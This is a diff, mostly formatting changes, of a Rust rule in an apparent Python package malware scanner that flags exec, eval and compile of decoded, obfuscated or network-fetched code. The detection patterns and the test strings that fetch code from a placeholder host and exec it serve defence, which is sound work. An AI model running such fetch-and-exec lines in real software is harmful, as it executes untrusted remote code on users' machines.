@@ -1,6 +1,6 @@
 //! WH110 dynamic-exec: exec/eval/compile of code that is not a plain literal.
 
-use ruff_python_ast::visitor::{walk_expr, Visitor};
+use ruff_python_ast::visitor::{Visitor, walk_expr};
 use ruff_python_ast::{Expr, ExprCall, Stmt};
 use ruff_text_size::Ranged;
 
@@ -21,13 +21,20 @@ pub const RULE: Rule = Rule {
 
 /// Names whose call executes Python source or code objects.
 pub fn is_exec(qualname: &str) -> bool {
-    matches!(qualname, "exec" | "eval" | "execfile" | "compile" | "runpy.run_path" | "runpy.run_module")
+    matches!(
+        qualname,
+        "exec" | "eval" | "execfile" | "compile" | "runpy.run_path" | "runpy.run_module"
+    )
 }
 
 /// True when the expression tree contains a decoding call (base64, zlib, marshal, codecs, ...),
 /// anywhere inside it: arguments, comprehensions, subscripts.
 pub fn contains_decoding(checker: &Checker, expr: &Expr) -> Option<String> {
-    let mut finder = DecodingFinder { checker, found: None, budget: 4_000 };
+    let mut finder = DecodingFinder {
+        checker,
+        found: None,
+        budget: 4_000,
+    };
     finder.visit_expr(expr);
     finder.found
 }
@@ -46,22 +53,28 @@ impl<'a> Visitor<'a> for DecodingFinder<'_, '_> {
         self.budget -= 1;
         match expr {
             Expr::Call(call) => {
-                if let Some(q) = self.checker.qualname(&call.func) {
-                    if codec_of(&q).is_some()
-                        || matches!(q.as_str(), "marshal.loads" | "codecs.decode" | "pickle.loads")
-                        || q.ends_with(".decrypt")
-                    {
-                        self.found = Some(q);
-                        return;
-                    }
+                if let Some(q) = self.checker.qualname(&call.func)
+                    && (codec_of(&q).is_some()
+                        || matches!(
+                            q.as_str(),
+                            "marshal.loads" | "codecs.decode" | "pickle.loads"
+                        )
+                        || q.ends_with(".decrypt"))
+                {
+                    self.found = Some(q);
+                    return;
                 }
             }
             Expr::Name(name) => {
-                if let Some(source) = self.checker.scopes.taint_of(name.id.as_str()) {
-                    if let Some(s) = self.checker.sources.get(source).filter(|s| s.kind == SourceKind::Decoded) {
-                        self.found = Some(s.label.clone());
-                        return;
-                    }
+                if let Some(source) = self.checker.scopes.taint_of(name.id.as_str())
+                    && let Some(s) = self
+                        .checker
+                        .sources
+                        .get(source)
+                        .filter(|s| s.kind == SourceKind::Decoded)
+                {
+                    self.found = Some(s.label.clone());
+                    return;
                 }
             }
             // Nested functions and lambdas are not evaluated by the exec call itself.
@@ -75,17 +88,26 @@ impl<'a> Visitor<'a> for DecodingFinder<'_, '_> {
 fn is_file_read(checker: &Checker, expr: &Expr) -> bool {
     let Expr::Call(call) = expr else { return false };
     // `(root / "version.py").read_text()`: the receiver need not resolve to be a file read.
-    if let Expr::Attribute(attribute) = &*call.func {
-        if matches!(attribute.attr.as_str(), "read_text" | "read_bytes") {
-            return true;
-        }
+    if let Expr::Attribute(attribute) = &*call.func
+        && matches!(attribute.attr.as_str(), "read_text" | "read_bytes")
+    {
+        return true;
     }
-    let Some(q) = checker.qualname(&call.func) else { return false };
+    let Some(q) = checker.qualname(&call.func) else {
+        return false;
+    };
     // `exec(compile(open(path).read(), path, 'exec'))` is the same idiom with a file name.
     if q == "compile" {
-        return call.arguments.args.first().is_some_and(|source| is_file_read(checker, source));
+        return call
+            .arguments
+            .args
+            .first()
+            .is_some_and(|source| is_file_read(checker, source));
     }
-    q.ends_with(".read") || q.ends_with(".read_text") || q == "open().read" || q.starts_with("open()")
+    q.ends_with(".read")
+        || q.ends_with(".read_text")
+        || q == "open().read"
+        || q.starts_with("open()")
 }
 
 /// exec/eval/compile calls.
@@ -99,25 +121,53 @@ pub fn check_call(checker: &mut Checker, call: &ExprCall, qualname: &str) {
     check_executed(checker, call.range(), code, qualname);
 }
 
-fn check_executed(checker: &mut Checker, range: ruff_text_size::TextRange, code: &Expr, qualname: &str) {
+fn check_executed(
+    checker: &mut Checker,
+    range: ruff_text_size::TextRange,
+    code: &Expr,
+    qualname: &str,
+) {
     let context = checker.context();
     let weak_context = matches!(context, ExecContext::Runtime | ExecContext::TestOrDocs);
     let plain_literal = matches!(code, Expr::StringLiteral(_) | Expr::BytesLiteral(_));
     let folded = checker.fold(code).and_then(|v| v.as_text());
     if let Some(decoder) = contains_decoding(checker, code) {
         if let Some(text) = &folded {
-            checker.push_layer(text.clone(), range, format!("decoded by {decoder} and passed to {qualname}"));
+            checker.push_layer(
+                text.clone(),
+                range,
+                format!("decoded by {decoder} and passed to {qualname}"),
+            );
         }
-        let severity = if context == ExecContext::TestOrDocs { 0.5 } else { 0.9 };
-        checker.report(&RULE, range, format!("{qualname} runs code decoded by {decoder}"), severity, vec!["exec-decoded"]);
+        let severity = if context == ExecContext::TestOrDocs {
+            0.5
+        } else {
+            0.9
+        };
+        checker.report(
+            &RULE,
+            range,
+            format!("{qualname} runs code decoded by {decoder}"),
+            severity,
+            vec!["exec-decoded"],
+        );
         return;
     }
     if let Some(text) = folded {
         if qualname == "compile" || qualname == "eval" && text.len() < 40 && !text.contains('(') {
             // `eval("exec")` fetches a builtin by name: a classic obfuscator opening move.
-            let looks_like_name = text.chars().all(|c| c.is_alphanumeric() || c == '_' || c == '.');
-            let builtin = matches!(text.as_str(), "exec" | "eval" | "compile" | "__import__" | "getattr" | "globals" | "open");
-            if qualname == "eval" && looks_like_name && builtin && !plain_literal_is_readable(checker, code) {
+            let looks_like_name = text
+                .chars()
+                .all(|c| c.is_alphanumeric() || c == '_' || c == '.');
+            let builtin = matches!(
+                text.as_str(),
+                "exec" | "eval" | "compile" | "__import__" | "getattr" | "globals" | "open"
+            );
+            if qualname == "eval"
+                && looks_like_name
+                && builtin
+                && !plain_literal_is_readable(checker, code)
+            {
                 checker.report(
                     &super::import_obfuscation::RULE,
                     range,
@@ -147,20 +197,51 @@ fn check_executed(checker: &mut Checker, range: ruff_text_size::TextRange, code:
             "a string assembled from constants"
         };
         checker.push_layer(text, range, format!("{how} passed to {qualname}"));
-        let tags = if hidden { vec!["exec-constant", "obfuscation"] } else { vec!["exec-constant"] };
-        checker.report(&RULE, range, format!("{qualname} runs {how}"), severity, tags);
+        let tags = if hidden {
+            vec!["exec-constant", "obfuscation"]
+        } else {
+            vec!["exec-constant"]
+        };
+        checker.report(
+            &RULE,
+            range,
+            format!("{qualname} runs {how}"),
+            severity,
+            tags,
+        );
         return;
     }
-    let source_kind = checker.source_in(code).map(|source| (checker.sources[source].kind, checker.sources[source].label.clone()));
+    let source_kind = checker.source_in(code).map(|source| {
+        (
+            checker.sources[source].kind,
+            checker.sources[source].label.clone(),
+        )
+    });
     if let Some((SourceKind::Network, label)) = &source_kind {
-        checker.report(&RULE, range, format!("{qualname} runs code received from the network ({label})"), 0.95, vec!["exec-remote"]);
+        checker.report(
+            &RULE,
+            range,
+            format!("{qualname} runs code received from the network ({label})"),
+            0.95,
+            vec!["exec-remote"],
+        );
         return;
     }
     if qualname == "compile" {
         return;
     }
-    if qualname == "execfile" || qualname == "runpy.run_path" || matches!(source_kind, Some((SourceKind::FileContent, _))) || is_file_read(checker, code) {
-        checker.report(&RULE, range, format!("{qualname} runs the contents of a file"), 0.05, vec!["exec-file"]);
+    if qualname == "execfile"
+        || qualname == "runpy.run_path"
+        || matches!(source_kind, Some((SourceKind::FileContent, _)))
+        || is_file_read(checker, code)
+    {
+        checker.report(
+            &RULE,
+            range,
+            format!("{qualname} runs the contents of a file"),
+            0.05,
+            vec!["exec-file"],
+        );
         return;
     }
     // Installing or importing a package has no reason to run code it computes.
@@ -170,18 +251,33 @@ fn check_executed(checker: &mut Checker, range: ruff_text_size::TextRange, code:
         ExecContext::Runtime => 0.04,
         ExecContext::TestOrDocs => 0.02,
     };
-    checker.report(&RULE, range, format!("{qualname} runs code computed at run time"), severity, vec!["exec-dynamic"]);
+    checker.report(
+        &RULE,
+        range,
+        format!("{qualname} runs code computed at run time"),
+        severity,
+        vec!["exec-dynamic"],
+    );
 }
 
 /// True when the code text is rebuilt from `chr()` codes, byte lists or reversed slices.
 fn builds_from_characters(checker: &Checker, code: &Expr) -> bool {
-    let source = checker.text.get(code.range().start().to_usize()..code.range().end().to_usize()).unwrap_or("");
-    source.contains("chr") || source.contains("[::-1]") || source.contains("bytes([") || source.contains("fromhex")
+    let source = checker
+        .text
+        .get(code.range().start().to_usize()..code.range().end().to_usize())
+        .unwrap_or("");
+    source.contains("chr")
+        || source.contains("[::-1]")
+        || source.contains("bytes([")
+        || source.contains("fromhex")
 }
 
 /// True when the literal's source spells its text plainly (no escapes, no computation).
 fn plain_literal_is_readable(checker: &Checker, code: &Expr) -> bool {
-    let source = checker.text.get(code.range().start().to_usize()..code.range().end().to_usize()).unwrap_or("");
+    let source = checker
+        .text
+        .get(code.range().start().to_usize()..code.range().end().to_usize())
+        .unwrap_or("");
     matches!(code, Expr::StringLiteral(_)) && !source.contains('\\')
 }
 
@@ -222,7 +318,8 @@ mod tests {
     fn remote_exec_is_severe() {
         let code = "import requests\nexec(requests.get('http://x.invalid/p').text)\n";
         assert!(max_severity("p/pkg/mod.py", code, "WH110") >= 0.9);
-        let code = "from urllib.request import urlopen\nr = urlopen(u)\ncode = r.read()\nexec(code)\n";
+        let code =
+            "from urllib.request import urlopen\nr = urlopen(u)\ncode = r.read()\nexec(code)\n";
         assert!(max_severity("p/pkg/mod.py", code, "WH110") >= 0.9);
     }
 
@@ -248,6 +345,9 @@ mod tests {
         assert!(max_severity("p/setup.py", code, "WH110") <= 0.05);
         let code = "def f(expr):\n    return eval(expr, {})\n";
         assert!(max_severity("p/pkg/mod.py", code, "WH110") <= 0.05);
-        assert_eq!(max_severity("p/pkg/mod.py", "x = compile(src, 'f', 'exec')\n", "WH110"), 0.0);
+        assert_eq!(
+            max_severity("p/pkg/mod.py", "x = compile(src, 'f', 'exec')\n", "WH110"),
+            0.0
+        );
     }
 }
